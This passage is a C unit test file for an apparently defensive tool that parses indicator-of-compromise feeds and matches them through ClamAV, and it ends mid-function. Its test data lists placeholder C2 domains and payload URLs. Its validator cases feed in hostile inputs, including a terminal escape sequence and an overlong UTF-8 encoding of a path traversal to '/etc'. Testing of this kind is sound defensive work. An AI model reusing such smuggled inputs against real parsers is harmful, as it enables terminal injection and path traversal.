/* IOC feeds: what real feeds look like (comments, CRLF, BOM, UTF-16,
 * defanged indicators, names after hashes), every malformed line with its
 * exact "FILE:LINE: message", hostile files (huge lines, NUL bytes, binary
 * garbage, random mutations), a 100,000-line feed, and matching end to end
 * through one ClamAV engine: ASCII, UTF-16LE, case, boundaries, hashes,
 * and an IOC next to a malware signature in the same buffer. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
#include <cmocka.h>

/* The error record the calls under test fill; said: its message. */
static struct ks_err kerr;
#define said (kerr.msg)

#include <kenshu/av.h>
#include <kenshu/core.h>
#include <openssl/evp.h>
#include "bytes.h"

static char tmpdir[] = "/tmp/kenshu-test-ioc-XXXXXX";
static struct ks_err err;


static char *write_file(const char *name, const void *data, size_t n)
{
	char *path = xasprintf("%s/%s", tmpdir, name);
	FILE *f = fopen(path, "wb");

	assert_non_null(f);
	assert_int_equal(fwrite(data, 1, n, f), n);
	assert_int_equal(fclose(f), 0);
	return path;
}

static char *write_text(const char *name, const char *text)
{
	return write_file(name, text, strlen(text));
}

/* Loads one feed; returns ioc_load's result, the message in err. */
static int load1(bool hash, const char *path, struct ioc **out)
{
	const char *list[1] = { path };

	return hash ? ioc_load(list, 1, NULL, 0, out, &err)
		    : ioc_load(NULL, 0, list, 1, out, &err);
}

/* The feed fails with exactly "PATH:LINE: message" (LINE 0: "PATH: message"). */
static void expect_error(bool hash, const char *name, const void *data, size_t n,
			 unsigned line, const char *message)
{
	char *path = write_file(name, data, n), want[1200];
	struct ioc *ioc = (struct ioc *)1;

	if (line)
		snprintf(want, sizeof(want), "%s:%u: %s", path, line, message);
	else
		snprintf(want, sizeof(want), "%s: %s", path, message);
	assert_int_equal(load1(hash, path, &ioc), -1);
	assert_null(ioc);
	assert_string_equal(err.msg, want);
	free(path);
}

static void expect_text_error(bool hash, const char *text, unsigned line, const char *message)
{
	expect_error(hash, "bad.txt", text, strlen(text), line, message);
}

static int setup(void **state)
{
	assert_non_null(mkdtemp(tmpdir));
	return 0;
}

static int teardown(void **state)
{
	char *cmd = xasprintf("rm -rf '%s'", tmpdir);

	assert_int_equal(system(cmd), 0);
	free(cmd);
	return 0;
}

/* ---- parsing ---- */

static const char h_md5[] = "0123456789abcdef0123456789abcdef";
static const char h_sha1[] = "0123456789abcdef0123456789abcdef01234567";
static const char h_sha256[] = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

static void hash_feed_as_published(void **state)
{
	/* BOM, CRLF, the three comment styles, names after space, comma, tab,
	 * a "# comment", a CSV-quoted name, prefixes, upper-case hex. */
	char *path = write_text("hashes.txt",
		"\xEF\xBB\xBF# ACME-ISAC weekly hashes\r\n"
		"; exported 2026-11-20\r\n"
		"// md5, sha1, sha256\r\n"
		"\r\n"
		"0123456789ABCDEF0123456789ABCDEF  Emotet loader\r\n"
		"0123456789abcdef0123456789abcdef01234567,\"TrickBot, stage 2\"\r\n"
		"sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\t# dropper\r\n"
		"   aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa   \r\n"
		"SHA-1:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb;name after semicolon\n"
		"cccccccccccccccccccccccccccccccc|piped name");
	struct ioc *ioc;
	const struct ioc_entry *e;

	assert_int_equal(load1(true, path, &ioc), 0);
	assert_int_equal(ioc_entry_count(ioc), 6);
	e = ioc_entry(ioc, 0);
	assert_string_equal(e->kind, "md5");
	assert_string_equal(e->indicator, h_md5);
	assert_string_equal(e->name, "Emotet loader");
	assert_int_equal(e->line, 5);
	assert_string_equal(e->feed, path);
	assert_string_equal(e->signame, "Kenshu.IOC.1");
	assert_true(e->hash);
	e = ioc_entry(ioc, 1);
	assert_string_equal(e->kind, "sha1");
	assert_string_equal(e->indicator, h_sha1);
	assert_string_equal(e->name, "TrickBot, stage 2");
	e = ioc_entry(ioc, 2);
	assert_string_equal(e->kind, "sha256");
	assert_string_equal(e->indicator, h_sha256);
	assert_string_equal(e->name, "dropper");
	assert_int_equal(e->line, 7);
	e = ioc_entry(ioc, 3);
	assert_null(e->name);
	assert_int_equal(e->line, 8);
	e = ioc_entry(ioc, 4);
	assert_string_equal(e->kind, "sha1");
	assert_string_equal(e->name, "name after semicolon");
	e = ioc_entry(ioc, 5);
	assert_string_equal(e->kind, "md5");
	assert_string_equal(e->name, "piped name");
	assert_int_equal(e->line, 10);
	assert_null(ioc_entry(ioc, 6));

	const struct ioc_feed *f = ioc_feed(ioc, 0);
	char sha[SHA256_HEX_LEN + 1];
	uint64_t size;
	assert_int_equal(sha256_file(path, sha, &size), 0);
	assert_string_equal(f->sha256, sha);
	assert_int_equal(f->size, size);
	assert_int_equal(f->entries, 6);
	assert_true(f->hash);
	assert_null(ioc_feed(ioc, 1));
	ioc_free(ioc);
	free(path);
}

static void string_feed_as_published(void **state)
{
	char *path = write_text("strings.txt",
		"# C2 infrastructure\n"
		"evil-c2.example.net\n"
		"Mixed.Case.Example.ORG,  phishing kit\n"
		"*.wildcard.example.com\n"
		"fqdn.example.com.\n"
		"http://Bad.Example.ORG:8080/Payload.bin?x=1\n"
		"10.20.30.40\n"
		"10.20.30.41:4444\n"
		"2001:DB8::1\n"
		"\"Global\\Mutex, with \"\"quotes\"\"\" named mutex\n"
		"\xD0\xBF\xD1\x80\xD0\xB8\xD0\xBC\xD0\xB5\xD1\x80.\xD1\x80\xD1\x84\n");
	struct ioc *ioc;
	static const struct {
		const char *kind, *indicator, *name;
	} want[] = {
		{ "domain", "evil-c2.example.net", NULL },
		{ "domain", "mixed.case.example.org", "phishing kit" },
		{ "domain", "wildcard.example.com", NULL },
		{ "domain", "fqdn.example.com", NULL },
		{ "url", "http://bad.example.org:8080/Payload.bin?x=1", NULL },
		{ "ip", "10.20.30.40", NULL },
		{ "ip", "10.20.30.41:4444", NULL },
		{ "ip", "2001:db8::1", NULL },
		{ "string", "Global\\Mutex, with \"quotes\"", "named mutex" },
		{ "string", "\xD0\xBF\xD1\x80\xD0\xB8\xD0\xBC\xD0\xB5\xD1\x80.\xD1\x80\xD1\x84", NULL },
	};

	assert_int_equal(load1(false, path, &ioc), 0);
	assert_int_equal(ioc_entry_count(ioc), sizeof(want) / sizeof(want[0]));
	for (size_t i = 0; i < sizeof(want) / sizeof(want[0]); i++) {
		const struct ioc_entry *e = ioc_entry(ioc, i);
		assert_string_equal(e->kind, want[i].kind);
		assert_string_equal(e->indicator, want[i].indicator);
		if (want[i].name)
			assert_string_equal(e->name, want[i].name);
		else
			assert_null(e->name);
		assert_int_equal(e->line, i + 2);
		assert_false(e->hash);
	}
	assert_false(ioc_feed(ioc, 0)->hash);
	ioc_free(ioc);
	free(path);
}

static void defanged_forms_are_refanged(void **state)
{
	char *path = write_text("defanged.txt",
		"hxxp://evil[.]example[.]com/drop.exe\n"
		"hXXps[:]//Login-Portal[.]example(.)net/\n"
		"fxp[://]files{.}example[.]org/x\n"
		"1.2.3[.]4\n"
		"5[.]6[.]7[.]8\n"
		"example(dot)info\n"
		"another[DOT]example{dot}biz\n"
		"evil\\.example\\.io\n"
		"admin[@]mail[.]example[.]com\n"
		"hxxp[:]//9.8.7[.]6[/]gate.php\n");
	struct ioc *ioc;
	static const struct {
		const char *kind, *indicator;
	} want[] = {
		{ "url", "http://evil.example.com/drop.exe" },
		{ "url", "https://login-portal.example.net/" },
		{ "url", "ftp://files.example.org/x" },
		{ "ip", "1.2.3.4" },
		{ "ip", "5.6.7.8" },
		{ "domain", "example.info" },
		{ "domain", "another.example.biz" },
		{ "domain", "evil.example.io" },
		{ "string", "admin@mail.example.com" },
		{ "url", "http://9.8.7.6/gate.php" },
	};

	assert_int_equal(load1(false, path, &ioc), 0);
	assert_int_equal(ioc_entry_count(ioc), sizeof(want) / sizeof(want[0]));
	for (size_t i = 0; i < sizeof(want) / sizeof(want[0]); i++) {
		assert_string_equal(ioc_entry(ioc, i)->kind, want[i].kind);
		assert_string_equal(ioc_entry(ioc, i)->indicator, want[i].indicator);
	}
	ioc_free(ioc);
	free(path);
}

static void utf16le_feed_from_windows(void **state)
{
	const char *text = "# exported by PowerShell\r\nevil-c2.example.net\r\n10.20.30.40\r\n";
	uint16_t *u = NULL;
	long n = utf8_to_utf16le(text, &u);
	uint8_t *raw = malloc(2 + 2 * (size_t)n);
	struct ioc *ioc;

	raw[0] = 0xFF;
	raw[1] = 0xFE;
	for (long i = 0; i < n; i++)
		set16(raw + 2 + 2 * i, u[i]);
	char *path = write_file("utf16.txt", raw, 2 + 2 * (size_t)n);
	assert_int_equal(load1(false, path, &ioc), 0);
	assert_int_equal(ioc_entry_count(ioc), 2);
	assert_string_equal(ioc_entry(ioc, 0)->indicator, "evil-c2.example.net");
	assert_int_equal(ioc_entry(ioc, 1)->line, 3);
	ioc_free(ioc);

	/* A NUL on line 2 and an odd byte count. */
	set16(raw + 2 + 2 * 30, 0);
	expect_error(false, "utf16-nul.txt", raw, 2 + 2 * (size_t)n, 2, "NUL character: not a text file");
	expect_error(false, "utf16-odd.txt", raw, 2 + 2 * (size_t)n - 1, 0,
		     "UTF-16 text with an odd number of bytes");
	/* An unpaired surrogate. */
	set16(raw + 2 + 2 * 30, 0xD800);
	expect_error(false, "utf16-sur.txt", raw, 2 + 2 * (size_t)n, 0,
		     "not valid UTF-16 text (an unpaired surrogate)");
	expect_error(false, "utf16be.txt", "\xFE\xFF\0e\0v", 6, 1,
		     "UTF-16 big-endian text: save the feed as UTF-8");
	free(raw);
	free(u);
	free(path);
}

static void malformed_hash_lines(void **state)
{
	char sixty_three[64], long_sha1[128];

	memset(sixty_three, 'a', 63);
	sixty_three[63] = '\0';
	snprintf(long_sha1, sizeof(long_sha1), "sha1:%s", h_sha256);
	expect_text_error(true, "xyz\n", 1,
		"'xyz' is not an MD5, SHA-1 or SHA-256 hash (32, 40 or 64 hex digits; "
		"a header line? comment it out with #)");
	expect_text_error(true, "sha256,name\n", 1,
		"'sha256' is not an MD5, SHA-1 or SHA-256 hash (32, 40 or 64 hex digits; "
		"a header line? comment it out with #)");
	/* The line number counts comments, blank lines and CRLF lines. */
	char text[512];
	snprintf(text, sizeof(text), "# header\r\n%s\r\n\r\n%s name\r\n", h_md5, sixty_three);
	expect_text_error(true, text, 4,
		"'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa...' is not an MD5, SHA-1 or SHA-256 hash "
		"(32, 40 or 64 hex digits; a header line? comment it out with #)");
	snprintf(text, sizeof(text), "%s\n", long_sha1);
	expect_text_error(true, text, 1,
		"'0123456789abcdef0123456789abcdef01234567...' is not a sha1 hash (64 hex digits)");
	snprintf(text, sizeof(text), "md4:%s\n", h_md5);
	expect_text_error(true, text, 1,
		"'md4:0123456789abcdef0123456789abcdef' is not an MD5, SHA-1 or SHA-256 hash "
		"(unknown prefix; a header line? comment it out with #)");
	expect_text_error(true, "0123456789abcdef0123456789abcdeg\n", 1,
		"'0123456789abcdef0123456789abcdeg' is not an MD5, SHA-1 or SHA-256 hash "
		"(32, 40 or 64 hex digits; a header line? comment it out with #)");
	expect_text_error(true, "D41D8CD98F00B204E9800998ECF8427E empty\n", 1,
		"d41d8cd98f00b204e9800998ecf8427e is the md5 of empty content: "
		"it would match every empty file");
	expect_text_error(true, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n", 1,
		"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 is the sha256 "
		"of empty content: it would match every empty file");
	expect_text_error(true, "\"0123456789abcdef0123456789abcdef\n", 1, "unterminated quote");
}

static void malformed_string_lines(void **state)
{
	static const struct {
		const char *line, *message;
	} cases[] = {
		{ "abc", "'abc' is shorter than 4 bytes: it would match almost anything" },
		{ "[.]", "'.' is shorter than 4 bytes: it would match almost anything" },
		{ "*.a.b", "'a.b' is shorter than 4 bytes: it would match almost anything" },
		{ "1.2.3.0/24", "'1.2.3.0/24' is a CIDR range: only single addresses can be matched" },
		{ "2001:db8::/32", "'2001:db8::/32' is a CIDR range: only single addresses can be matched" },
		{ "1.2.3.256", "'1.2.3.256' is not a valid IPv4 address" },
		{ "1.2.3", "'1.2.3' is not a valid IPv4 address" },
		{ "1.2.3.4:99999", "'1.2.3.4:99999' is not a valid IPv4 address and port" },
		{ "2001:db8:::1", "'2001:db8:::1' is not a valid IPv6 address" },
		{ "evil..example.com", "'evil..example.com' is not a valid domain name (an empty label)" },
		{ "evil.example.123", "'evil.example.123' is not a valid domain name (the last label is a number)" },
		{ "a*.example.com", "'a*.example.com' has a '*' that is not a leading '*.'" },
		{ "http:///path", "'http:///path' is not a valid URL (no host)" },
		{ "http://:80/x", "'http://:80/x' is not a valid URL (no host)" },
		{ "http://evil..com/", "'http://evil..com/' is not a valid URL (bad host name)" },
		{ "http://1.2.3.999/", "'http://1.2.3.999/' is not a valid URL (bad IPv4 host)" },
		{ "http://[::zz]/", "'http://[::zz]/' is not a valid URL (bad IPv6 host)" },
		{ "://evil.com", "'://evil.com' is not a valid URL (no scheme)" },
		{ "1ttp://evil.com", "'1ttp://evil.com' is not a valid URL (no scheme)" },
		{ "ht_p://evil.com", "'ht_p://evil.com' is not a valid URL (bad scheme)" },
		{ "\"abc def", "unterminated quote" },
		{ "\"abcd\"x", "text after a closing quote" },
		{ "evil.example.com\x1b[31m", "control character 0x1B" },
		{ "evil\xC2\x9B" "31m.example.com", "control character U+009B" },
		{ "caf\xC3\x28.example.com", "not valid UTF-8 (save the feed as UTF-8 or ASCII)" },
		{ "\xC0\xAE\xC0\xAE/etc", "not valid UTF-8 (save the feed as UTF-8 or ASCII)" },
		{ "\xED\xA0\x80surrogate", "not valid UTF-8 (save the feed as UTF-8 or ASCII)" },
		{ "truncated\xE2\x82", "not valid UTF-8 (save the feed as UTF-8 or ASCII)" },
	};
	char text[512];

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		snprintf(text, sizeof(text), "# line 1\nok.example.com\n%s\n", cases[i].line);
		expect_text_error(false, text, 3, cases[i].message);
	}
	/* A label of 64 characters, a name of 254. */
	char label[128];
	memset(label, 'x', 64);
	snprintf(label + 64, sizeof(label) - 64, ".com");
	snprintf(text, sizeof(text), "%s\n", label);
	expect_text_error(false, text, 1,
		"'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx...' is not a valid domain name "
		"(a label longer than 63 characters)");
	char longname[300];
	for (int k = 0; k < 51; k++)
		memcpy(longname + 5 * k, "abcd.", 5);
	memcpy(longname + 255, "com", 4);
	snprintf(text, sizeof(text), "%s\n", longname);
	expect_text_error(false, text, 1,
		"'abcd.abcd.abcd.abcd.abcd.abcd.abcd.abcd....' is not a valid domain name "
		"(longer than 253 characters)");
}

static void string_too_long_and_line_too_long(void **state)
{
	char *big = malloc(20 << 20);

	/* 1025 bytes: quoted so that it is one generic string. */
	big[0] = '"';
	memset(big + 1, 'q', 1025);
	memcpy(big + 1026, "\"\n", 3);
	expect_error(false, "long1.txt", big, strlen(big), 1,
		     "'qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqq...' is longer than 1024 bytes");
	/* 1024 bytes is fine. */
	memcpy(big + 1025, "\"\n", 3);
	char *path = write_text("long-ok.txt", big);
	struct ioc *ioc;
	assert_int_equal(load1(false, path, &ioc), 0);
	assert_int_equal(strlen(ioc_entry(ioc, 0)->indicator), 1024);
	ioc_free(ioc);
	free(path);

	/* One line of 4097 bytes on line 2; then 16 MiB with no newline at all. */
	memcpy(big, "evil.example.com\n", 17);
	memset(big + 17, 'a', 4097);
	big[17 + 4097] = '\n';
	expect_error(false, "huge-line.txt", big, 17 + 4098, 2, "line longer than 4096 bytes");
	memset(big, 'b', 16 << 20);
	expect_error(true, "huge-noeol.txt", big, 16 << 20, 1, "line longer than 4096 bytes");
	free(big);
}

static void binary_garbage_and_nul_bytes(void **state)
{
	static const char with_nul[] = "evil.example.com\nbad\0line.example.com\n";
	uint8_t garbage[4096];
	uint64_t seed = 0x1234567;

	expect_error(false, "nul.txt", with_nul, sizeof(with_nul) - 1, 2, "NUL byte: not a text file");
	expect_error(true, "nul-hash.txt", "\0\0\0\0", 4, 1, "NUL byte: not a text file");
	for (size_t i = 0; i < sizeof(garbage); i++)
		garbage[i] = (uint8_t)xorshift64(&seed);
	garbage[0] = 0x7F;   /* DEL: a control character on line 1 whatever follows */
	expect_error(false, "garbage.bin", garbage, sizeof(garbage), 1, "control character 0x7F");
	/* An ELF header fed as a feed by mistake. */
	expect_error(true, "elf.bin", "\x7F" "ELF\x02\x01\x01", 7, 1, "control character 0x7F");
}

/* Random damage to a valid feed: every outcome is either success or one
 * "PATH:LINE: " message, never a crash (run under ASan too). */
static void mutated_feeds_fail_cleanly(void **state)
{
	static const char base[] =
		"\xEF\xBB\xBF# feed\r\nevil-c2.example.net, c2\r\nhxxp://bad[.]example[.]org/x\r\n"
		"10.20.30.40\r\n\"quoted, string\" name\r\n2001:db8::1\r\n";
	uint64_t seed = 42;
	char buf[sizeof(base) + 16];
	int ok = 0, bad = 0;

	for (int round = 0; round < 2000; round++) {
		size_t n = sizeof(base) - 1;
		memcpy(buf, base, n);
		for (int k = 0, edits = 1 + (int)(xorshift64(&seed) % 4); k < edits; k++)
			buf[xorshift64(&seed) % n] = (char)xorshift64(&seed);
		if (xorshift64(&seed) % 4 == 0)
			n = (size_t)(xorshift64(&seed) % n);
		char *path = write_file("mut.txt", buf, n);
		struct ioc *ioc;
		bool hash = round % 2;
		int rc = load1(hash, path, &ioc);
		if (rc == 0) {
			ok++;
			for (size_t i = 0; i < ioc_entry_count(ioc); i++) {
				const struct ioc_entry *e = ioc_entry(ioc, i);
				assert_true(strlen(e->indicator) >= IOC_MIN_STRING);
				assert_ptr_equal(ioc_lookup(ioc, e->signame), e);
			}
			ioc_free(ioc);
		} else {
			bad++;
			assert_int_equal(strncmp(err.msg, path, strlen(path)), 0);
			assert_int_equal(err.msg[strlen(path)], ':');
		}
		free(path);
	}
	assert_true(ok > 0 && bad > 0);
}

static void unreadable_feeds(void **state)
{
	char *missing = xasprintf("%s/no-such-feed.txt", tmpdir), want[1200];
	char *fifo = xasprintf("%s/feed.fifo", tmpdir);
	struct ioc *ioc;

	assert_int_equal(load1(true, missing, &ioc), -1);
	snprintf(want, sizeof(want), "%s: cannot read: No such file or directory", missing);
	assert_string_equal(err.msg, want);
	assert_int_equal(load1(false, tmpdir, &ioc), -1);
	snprintf(want, sizeof(want), "%s: cannot read: Is a directory", tmpdir);
	assert_string_equal(err.msg, want);
	/* A FIFO would block a reader forever: refused, not read. */
	assert_int_equal(mkfifo(fifo, 0600), 0);
	assert_int_equal(load1(false, fifo, &ioc), -1);
	snprintf(want, sizeof(want), "%s: cannot read: not a regular file", fifo);
	assert_string_equal(err.msg, want);
	if (geteuid() != 0) {
		char *locked = write_text("locked.txt", "evil.example.com\n");
		chmod(locked, 0);
		assert_int_equal(load1(false, locked, &ioc), -1);
		snprintf(want, sizeof(want), "%s: cannot read: Permission denied", locked);
		assert_string_equal(err.msg, want);
		free(locked);
	}
	/* The second feed is the one named. */
	char *good = write_text("good.txt", "evil.example.com\n");
	const char *two[2] = { good, missing };
	assert_int_equal(ioc_load(NULL, 0, two, 2, &ioc, &err), -1);
	snprintf(want, sizeof(want), "%s: cannot read: No such file or directory", missing);
	assert_string_equal(err.msg, want);
	free(good);
	free(fifo);
	free(missing);
}

static void empty_feeds_are_valid(void **state)
{
	char *empty = write_text("empty.txt", ""), *comments = write_text("comments.txt", "# none yet\r\n\r\n");
	const char *h[1] = { empty }, *s[1] = { comments };
	struct ioc *ioc;

	assert_int_equal(ioc_load(h, 1, s, 1, &ioc, &err), 0);
	assert_int_equal(ioc_entry_count(ioc), 0);
	assert_int_equal(ioc_feed_count(ioc), 2);
	assert_string_equal(ioc_feed(ioc, 0)->sha256,
			    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
	assert_int_equal(ioc_feed(ioc, 0)->entries, 0);
	assert_null(ioc_lookup(ioc, "Kenshu.IOC.1"));
	ioc_free(ioc);
	assert_int_equal(ioc_load(NULL, 0, NULL, 0, &ioc, &err), 0);
	assert_int_equal(ioc_feed_count(ioc), 0);
	ioc_free(ioc);
	ioc_free(NULL);
	free(empty);
	free(comments);
}

static void duplicates_keep_the_first(void **state)
{
	char text[512];
	snprintf(text, sizeof(text), "%s first\n%s\n", h_sha256, h_md5);
	char *a = write_text("dup-a.txt", text);
	snprintf(text, sizeof(text), "%s\n", h_md5);
	for (char *c = text; *c; c++)
		if (*c >= 'a' && *c <= 'f')
			*c = (char)(*c - 'a' + 'A');
	char *b = write_text("dup-b.txt", text);
	char *c = write_text("dup-c.txt", "Evil.Example.com\nevil.example.COM\nhxxp://x[.]example[.]com/\n"
				    "http://X.EXAMPLE.COM/\n");
	const char *h[2] = { a, b }, *s[1] = { c };
	struct ioc *ioc;

	assert_int_equal(ioc_load(h, 2, s, 1, &ioc, &err), 0);
	assert_int_equal(ioc_entry_count(ioc), 4);
	assert_int_equal(ioc_feed(ioc, 0)->entries, 2);
	assert_int_equal(ioc_feed(ioc, 1)->entries, 0);
	assert_int_equal(ioc_feed(ioc, 2)->entries, 2);
	assert_string_equal(ioc_entry(ioc, 1)->feed, a);
	assert_int_equal(ioc_entry(ioc, 1)->line, 2);
	assert_string_equal(ioc_entry(ioc, 2)->indicator, "evil.example.com");
	assert_int_equal(ioc_entry(ioc, 3)->line, 3);
	ioc_free(ioc);
	free(a);
	free(b);
	free(c);
}

static void lookup_maps_back_exactly(void **state)
{
	char *path = write_text("lookup.txt", "# x\nevil.example.com\n10.20.30.40\nhttp://bad.example.org/\n");
	struct ioc *ioc;
	static const char *const not_ours[] = {
		"Kenshu.IOC.0", "Kenshu.IOC.01", "Kenshu.IOC.4", "Kenshu.IOC.", "Kenshu.IOC.1x",
		"Kenshu.IOC.1.UNOFFICIALX", "Kenshu.IOC.1.unofficial", "Kenshu.IOC.99999999999999999999",
		"Kenshu.IOC.-1", "kenshu.ioc.1", "Win.Test.EICAR_HDB-1", "Heuristics.OLE2.ContainsMacros.VBA",
		"",
	};

	assert_int_equal(load1(false, path, &ioc), 0);
	const struct ioc_entry *e = ioc_lookup(ioc, "Kenshu.IOC.2.UNOFFICIAL");
	assert_non_null(e);
	assert_string_equal(e->feed, path);
	assert_int_equal(e->line, 3);
	assert_string_equal(e->kind, "ip");
	assert_string_equal(e->indicator, "10.20.30.40");
	assert_ptr_equal(ioc_lookup(ioc, "Kenshu.IOC.3"), ioc_entry(ioc, 2));
	for (size_t i = 0; i < sizeof(not_ours) / sizeof(not_ours[0]); i++)
		assert_null(ioc_lookup(ioc, not_ours[i]));
	assert_null(ioc_lookup(ioc, NULL));
	assert_null(ioc_lookup(NULL, "Kenshu.IOC.1"));
	ioc_free(ioc);
	free(path);
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* 100,000 lines of each kind: parsed quickly, each one kept, each mapping back. */
static void hundred_thousand_lines(void **state)
{
	size_t cap = 12 << 20, nh = 0, ns = 0;
	char *hashes = malloc(cap), *strings = malloc(cap);
	uint64_t seed = 7;
	struct ioc *ioc;

	nh += (size_t)snprintf(hashes + nh, cap - nh, "# 100k hashes\n");
	for (int i = 0; i < 100000; i++) {
		uint64_t a = xorshift64(&seed), b = xorshift64(&seed), c = xorshift64(&seed), d = xorshift64(&seed);
		nh += (size_t)snprintf(hashes + nh, cap - nh, "%016llx%016llx%016llx%016llx sample %d\r\n",
				       (unsigned long long)a, (unsigned long long)b, (unsigned long long)c,
				       (unsigned long long)d, i);
		ns += (size_t)snprintf(strings + ns, cap - ns, i % 2 ? "host%06d.example[.]net\n"
							       : "hxxp://10.%d.%d.%d/p\n",
				       i % 2 ? i : i >> 16, (i >> 8) & 255, i & 255);
	}
	char *hp = write_file("100k-hashes.txt", hashes, nh), *sp = write_file("100k-strings.txt", strings, ns);
	const char *h[1] = { hp }, *s[1] = { sp };
	double t0 = now();
	assert_int_equal(ioc_load(h, 1, s, 1, &ioc, &err), 0);
	double t = now() - t0;
	print_message("ioc_load: 200,000 lines in %.3f s\n", t);
	assert_int_equal(ioc_entry_count(ioc), 200000);
	const struct ioc_entry *e = ioc_lookup(ioc, "Kenshu.IOC.100000.UNOFFICIAL");
	assert_non_null(e);
	assert_int_equal(e->line, 100001);
	assert_string_equal(e->name, "sample 99999");
	e = ioc_lookup(ioc, "Kenshu.IOC.200000");
	assert_int_equal(e->line, 100000);
	assert_string_equal(e->indicator, "host099999.example.net");
	assert_true(t < 10.0);
	ioc_free(ioc);
	free(hp);
	free(sp);
	free(hashes);
	free(strings);
}

/* ---- matching through the engine ---- */

static struct av *av;
static struct ioc *feeds;
static char *hash_feed, *string_feed;
static char *dbdir;

static const char md5_data[] = "kenshu unit: a file whose MD5 is on the list\n";
static const char sha1_data[] = "kenshu unit: a file whose SHA-1 is on the list\n";
static const char sha256_data[] = "kenshu unit: a file whose SHA-256 is on the list\n";
static const char malware_marker[] = "kenshu-unit-malware-marker";

static void digest_hex(const char *alg, const void *data, size_t n, char *out)
{
	unsigned char md[EVP_MAX_MD_SIZE];
	unsigned int len = 0;

	assert_int_equal(EVP_Digest(data, n, md, &len, EVP_get_digestbyname(alg), NULL), 1);
	for (unsigned i = 0; i < len; i++)
		snprintf(out + 2 * i, 3, "%02x", md[i]);
}

static int count_named(const char *dir, const char *prefix)
{
	DIR *d = opendir(dir);
	struct dirent *de;
	int n = 0;

	assert_non_null(d);
	while ((de = readdir(d)))
		n += strncmp(de->d_name, prefix, strlen(prefix)) == 0;
	closedir(d);
	return n;
}

static int engine_setup(void **state)
{
	char md5[33], sha1[41], sha256[65], *text, *sig;
	struct av_limits l;
	FILE *f;

	setup(state);
	dbdir = xasprintf("%s/db", tmpdir);
	assert_int_equal(mkdir(dbdir, 0755), 0);
	sig = xasprintf("%s/unit.ndb", dbdir);
	f = fopen(sig, "w");
	assert_non_null(f);
	fprintf(f, "Kenshu.Unit.Malware:0:*:");
	for (const char *c = malware_marker; *c; c++)
		fprintf(f, "%02x", (unsigned char)*c);
	fprintf(f, "\n");
	fclose(f);
	free(sig);

	digest_hex("md5", md5_data, strlen(md5_data), md5);
	digest_hex("sha1", sha1_data, strlen(sha1_data), sha1);
	digest_hex("sha256", sha256_data, strlen(sha256_data), sha256);
	text = xasprintf("# unit hashes\n%s md5 sample\n%s sha1 sample\n%s\tsha256 sample\n", md5, sha1, sha256);
	hash_feed = write_text("match-hashes.txt", text);
	free(text);
	string_feed = write_text("match-strings.txt",
		"# unit strings\n"
		"evil-c2.example.net, C2\n"
		"10.20.30.40\n"
		"hxxp://bad[.]example[.]org/payload.bin\n"
		"\"Global\\KenshuUnitMutex\"\n");
	const char *h[1] = { hash_feed }, *s[1] = { string_feed };
	assert_int_equal(ioc_load(h, 1, s, 1, &feeds, &err), 0);
	assert_int_equal(ioc_entry_count(feeds), 7);

	/* The generated databases live in TMPDIR only while they load. */
	char *old = getenv("TMPDIR") ? xstrdup(getenv("TMPDIR")) : NULL;
	setenv("TMPDIR", tmpdir, 1);
	av_default_limits(&l);
	double t0 = now();
	assert_int_equal(av_open(dbdir, feeds, &l, &av, &kerr), 0);
	print_message("av_open with 7 IOCs: %.3f s\n", now() - t0);
	if (old) {
		setenv("TMPDIR", old, 1);
		free(old);
	} else {
		unsetenv("TMPDIR");
	}
	assert_int_equal(count_named(tmpdir, "kenshu-ioc-"), 0);
	return 0;
}

static int engine_teardown(void **state)
{
	av_close(av);
	ioc_free(feeds);
	free(hash_feed);
	free(string_feed);
	free(dbdir);
	return teardown(state);
}

/* Scans a buffer; returns the matches' names joined by ' ', sorted by
 * the order ClamAV reported them. */
static void scan(const void *data, size_t n, struct av_result *res)
{
	assert_int_equal(av_scan_memory(av, data, n, "unit", res), 0);
	assert_null(res->error);
}

/* The one IOC entry a scan found (asserting it is exactly one). */
static const struct ioc_entry *one_ioc(const void *data, size_t n)
{
	struct av_result res;
	const struct ioc_entry *e;

	scan(data, n, &res);
	assert_int_equal(res.n, 1);
	assert_int_equal(res.m[0].kind, AV_DETECTION);
	e = ioc_lookup(feeds, res.m[0].name);
	assert_non_null(e);
	av_result_release(&res);
	return e;
}

static size_t no_match(const void *data, size_t n)
{
	struct av_result res;
	size_t k;

	scan(data, n, &res);
	k = res.n;
	for (size_t i = 0; i < res.n; i++)
		print_message("unexpected match: %s\n", res.m[i].name);
	av_result_release(&res);
	return k;
}

/* A binary around the text: ClamAV does not normalise it. */
static size_t binary_with(const char *text, uint8_t *out, size_t cap)
{
	size_t n = 0, tl = strlen(text);

	assert_true(tl + 128 < cap);
	memcpy(out, "MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0", 16);
	n = 16;
	for (int i = 0; i < 48; i++)
		out[n++] = (uint8_t)(i * 7 + 1);
	out[n++] = 0;
	memcpy(out + n, text, tl);
	n += tl;
	out[n++] = 0;
	for (int i = 0; i < 48; i++)
		out[n++] = (uint8_t)(i * 13 + 5);
	return n;
}

static size_t binary_with_wide(const char *text, uint8_t *out, size_t cap)
{
	uint16_t *u = NULL;
	long units = utf8_to_utf16le(text, &u);
	size_t n;

	assert_true(units > 0 && (size_t)units * 2 + 128 < cap);
	n = binary_with("", out, cap) - 49;   /* keep the header and the zero */
	out[n++] = 0;
